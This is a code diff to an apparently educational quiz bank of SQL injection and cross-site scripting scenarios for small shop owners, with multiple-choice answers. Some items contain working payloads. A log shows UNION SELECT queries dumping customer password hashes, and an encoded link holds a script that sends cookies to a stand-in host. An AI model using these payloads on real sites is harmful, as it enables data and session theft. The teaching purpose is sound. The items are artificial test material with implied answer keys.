@@ -1,12 +1,13 @@
-import type { ScenarioCase } from './types';
+import type { BankCase } from './types';
 
 /** SQL injection and cross-site scripting, seen by a small shop owner or a site user. */
-export const WEB_ATTACK_CASES: readonly ScenarioCase[] = [
+export const WEB_ATTACK_CASES: readonly BankCase[] = [
   {
     id: 'sql-injection-01',
     fraudId: 'SqlInjection',
     defenseIds: ['InputValidation'],
     medium: 'chat',
+    difficulty: 1,
     context: 'You own a small online shop. Your freelance developer explains the new login page.',
     body: [],
     lines: [
@@ -25,6 +26,7 @@ export const WEB_ATTACK_CASES: readonly ScenarioCase[] = [
     fraudId: 'SqlInjection',
     defenseIds: ['InputValidation', 'NetworkMonitoring'],
     medium: 'web-page',
+    difficulty: 1,
     context: 'A customer emails you a screenshot of your shop\'s search page.',
     link: 'https://bushveld-biltong.example/search?q=%27%20OR%201%3D1--',
     body: [
@@ -44,6 +46,7 @@ export const WEB_ATTACK_CASES: readonly ScenarioCase[] = [
     fraudId: 'SqlInjection',
     defenseIds: ['InputValidation', 'PrincipleOfLeastPrivilege'],
     medium: 'chat',
+    difficulty: 2,
     context: 'You asked a second developer to review your shop\'s code before launch.',
     body: [],
     lines: [
@@ -62,7 +65,8 @@ export const WEB_ATTACK_CASES: readonly ScenarioCase[] = [
     fraudId: 'Xss',
     defenseIds: ['InputValidation', 'UserEducation'],
     medium: 'email',
-    context: 'Your personal inbox. You do have a Shopwise account.',
+    difficulty: 3,
+    context: 'Your personal inbox. You have a Shopwise account.',
     from: 'Shopwise Deals <deals@shopwise-offers.example>',
     to: 'you@mailbox.example',
     subject: 'Your 50% voucher is waiting',
@@ -82,6 +86,7 @@ export const WEB_ATTACK_CASES: readonly ScenarioCase[] = [
     fraudId: 'Xss',
     defenseIds: ['InputValidation'],
     medium: 'web-page',
+    difficulty: 2,
     context: 'You moderate comments on your club\'s website. A new comment waits for approval.',
     link: 'https://hiking-club.example/admin/comments/871',
     body: [
@@ -100,6 +105,7 @@ export const WEB_ATTACK_CASES: readonly ScenarioCase[] = [
     fraudId: 'Xss',
     defenseIds: ['InputValidation'],
     medium: 'chat',
+    difficulty: 2,
     context: 'You run the club\'s website and asked the developer how comments are shown.',
     body: [],
     lines: [
@@ -111,6 +117,129 @@ export const WEB_ATTACK_CASES: readonly ScenarioCase[] = [
       { id: 'a', label: 'Yes: escaped output plus a content policy' },
       { id: 'b', label: 'No: comments must be switched off entirely to be safe' },
       { id: 'c', label: 'No: only an antivirus on the server can stop scripts in comments' },
+    ],
+  },
+  {
+    id: 'sql-injection-04',
+    fraudId: 'SqlInjection',
+    defenseIds: ['KeepUpdated', 'InputValidation'],
+    medium: 'email',
+    difficulty: 1,
+    context: 'Monday 08:00, the inbox of your online shop, which runs on CartPress 7.3',
+    from: 'CartPress Security <security@cartpress.example>',
+    to: 'admin@bushveld-biltong.example',
+    subject: 'Security release 7.4.2: SQL injection fix',
+    link: 'https://cartpress.example/security/2026-03',
+    body: [
+      'Version 7.4.2 fixes an SQL injection flaw in the coupon field of versions 7.0 to 7.4.1. We have seen attempts to use it.',
+      'Update from your shop\'s admin panel (Updates, then CartPress). Nothing needs downloading from this email.',
+    ],
+    question: 'What do you do?',
+    choices: [
+      { id: 'a', label: 'Wait for the next big version, and update everything in one go then' },
+      { id: 'b', label: 'Turn off coupons for good, so the update is not needed' },
+      { id: 'c', label: 'Update from the admin panel today' },
+    ],
+  },
+  {
+    id: 'sql-injection-05',
+    fraudId: 'SqlInjection',
+    defenseIds: ['InputValidation'],
+    medium: 'chat',
+    difficulty: 3,
+    context: 'Your developer replies about the search-page error a customer reported',
+    from: 'Developer',
+    body: [],
+    lines: [
+      { speaker: 'Developer', text: 'Fixed! I now strip the words SELECT, DROP and OR out of whatever people type in the search box.' },
+      { speaker: 'Developer', text: 'So nobody can inject anything any more. The queries themselves are unchanged.' },
+    ],
+    question: 'Is the hole closed?',
+    choices: [
+      { id: 'a', label: 'No: ask for parameterised queries' },
+      { id: 'b', label: 'Yes: without those words, no attack can work' },
+      { id: 'c', label: 'Yes, as long as he also strips out the words UNION and INSERT' },
+    ],
+  },
+  {
+    id: 'sql-injection-06',
+    fraudId: 'SqlInjection',
+    defenseIds: ['InputValidation', 'NetworkMonitoring'],
+    medium: 'web-page',
+    difficulty: 3,
+    context: 'You run a small online shop. This is your web log for last night.',
+    link: 'https://bushveld-biltong.example/admin/logs/2026-03-14',
+    body: [
+      '02:11 GET /search?q=\' UNION SELECT email, password_hash FROM customers-- → 200, 1.8 MB',
+      '02:12 GET /search?q=\' UNION SELECT name, phone, address FROM customers-- → 200, 2.3 MB',
+      'A normal search reply is about 20 KB.',
+    ],
+    question: 'What do you do?',
+    choices: [
+      { id: 'a', label: 'Fix the query quietly: customers never need to know' },
+      { id: 'b', label: 'Fix the hole, reset passwords, and notify the Information Regulator and customers' },
+      { id: 'c', label: 'Delete the log, so the stolen details cannot leak from it as well' },
+    ],
+  },
+  {
+    id: 'xss-04',
+    fraudId: 'Xss',
+    defenseIds: ['InputValidation', 'UserEducation'],
+    medium: 'email',
+    difficulty: 3,
+    context: 'Tuesday 10:00, the support inbox of your shop. You are signed in to the shop\'s admin.',
+    from: 'Karen P <karenp@mailbox.example>',
+    to: 'support@bushveld-biltong.example',
+    subject: 'Your search page shows an error',
+    link: 'https://bushveld-biltong.example/search?q=%3Cscript%3Efetch(%27https%3A%2F%2Fgrab.example%2F%3Fc%3D%27%2Bdocument.cookie)%3C%2Fscript%3E',
+    body: [
+      'Hi, when I search your shop it shows something weird. Can you click my link and see what I mean? Thanks!',
+    ],
+    question: 'The link goes to your own shop. What do you do?',
+    choices: [
+      { id: 'a', label: 'Click it: it goes to your own shop' },
+      { id: 'b', label: 'Click it, and sign out of the admin as soon as you have looked' },
+      { id: 'c', label: 'Do not click; have the developer check the search page' },
+    ],
+  },
+  {
+    id: 'xss-05',
+    fraudId: 'Xss',
+    defenseIds: ['InputValidation'],
+    medium: 'chat',
+    difficulty: 2,
+    context: 'Your club\'s website. The developer shows you a new "Welcome back" banner.',
+    from: 'Developer',
+    body: [],
+    lines: [
+      { speaker: 'Developer', text: 'The banner shows the member\'s display name. I put it in with innerHTML so people can use bold and emojis in their names.' },
+      { speaker: 'Developer', text: 'Names come from the sign-up form, which anyone can fill in.' },
+    ],
+    question: 'Is this safe?',
+    choices: [
+      { id: 'a', label: 'Yes: it is only a display name' },
+      { id: 'b', label: 'No: names must be shown as plain text' },
+      { id: 'c', label: 'Yes, as long as display names are limited to 50 characters' },
+    ],
+  },
+  {
+    id: 'xss-06',
+    fraudId: 'Xss',
+    defenseIds: ['InputValidation'],
+    medium: 'chat',
+    difficulty: 2,
+    context: 'Your club\'s website. A member writes in through the feedback form.',
+    from: 'Feedback',
+    body: [],
+    lines: [
+      { speaker: 'Member', text: 'I typed <b>Great hike!</b> in my comment and the page shows the tags as text instead of bold. Please fix it so HTML works!' },
+      { speaker: 'Developer', text: 'That\'s the site escaping what people type, on purpose. I could add a small, safe bold and italics button instead.' },
+    ],
+    question: 'What do you do?',
+    choices: [
+      { id: 'a', label: 'Switch the escaping off, so that members can use HTML in comments' },
+      { id: 'b', label: 'Keep the escaping and add the button' },
+      { id: 'c', label: 'Let only members with more than ten comments use HTML' },
     ],
   },
 ];
